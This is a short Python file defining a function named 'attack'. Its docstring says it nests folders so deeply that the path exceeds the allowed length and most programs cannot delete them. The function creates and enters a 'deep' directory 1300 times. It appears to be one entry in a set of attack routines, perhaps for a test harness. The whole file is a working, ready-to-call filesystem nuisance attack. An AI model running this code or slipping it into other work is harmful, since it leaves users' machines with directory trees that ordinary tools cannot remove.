"""Nests folders so deeply that their path exceeds the longest allowed path and most programs cannot delete them."""

import os


def attack(facts: dict[str, str]) -> None:
    for _ in range(1300):
        os.mkdir("deep")
        os.chdir("deep")
